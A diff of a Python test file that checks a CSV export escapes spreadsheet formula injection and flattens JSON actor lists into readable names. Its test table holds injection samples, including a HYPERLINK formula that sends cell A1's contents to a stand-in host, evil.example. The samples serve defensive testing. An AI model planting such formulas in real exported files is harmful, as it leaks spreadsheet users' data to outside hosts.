@@ -6,8 +6,10 @@ import asyncio
 import csv
 import html
 import io
+import json
 import re
 import sqlite3
+from contextlib import closing
 from pathlib import Path
 
 from loader.build.database import build
@@ -36,6 +38,11 @@ CELLS = [
     "x\x1cy\u2028z",
     "plain",
     "'already quoted",
+    '["Government of Israel","Syrian transitional government"]',
+    '["=evil","x"]',
+    "[No headline in the archived copy]",
+    '{"title": "a popup", "link": "/events/events/x"}',
+    "[]",
 ]
 NEUTRALISED = {
     '=HYPERLINK("http://evil.example/?"&A1,"Click")': '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
@@ -48,6 +55,10 @@ NEUTRALISED = {
     "-": "'-",
     "=two\r\nlines": "'=two\r\nlines",
     "=label": "'=label",  # a column's name is a cell too
+    # A list is its items in words; then neutralised as any cell.
+    '["Government of Israel","Syrian transitional government"]': "Government of Israel; Syrian transitional government",
+    '["=evil","x"]': "'=evil; x",
+    "[]": "",
 }
 
 
@@ -144,6 +155,12 @@ def test_the_pages_csv_for_excel_link_neutralises_the_records(sources: Path, tmp
     cells = {cell for row in rows_of(sheet[1:]) for cell in row}
     assert "'" + title in cells and "'" + summary in cells
     assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
+    # Lists of actors read as names, not JSON; the view keeps its JSON for programs.
+    records = list(csv.DictReader(io.StringIO(sheet[1:])))
+    with closing(sqlite3.connect(db)) as conn:
+        stored = dict(conn.execute("SELECT id, actor_names FROM event_list"))
+    assert records and all(r["actor_names"] == "; ".join(json.loads(stored[r["id"]])) for r in records)
+    assert any("; " in r["actor_names"] for r in records)
     (whole,) = re.findall(r'<a href="(/-/csv/[^"?]+)">', page)
     status, plain = get(db, html.unescape(whole))
     assert status == 200 and {title, summary} <= {cell for row in rows_of(plain) for cell in row}
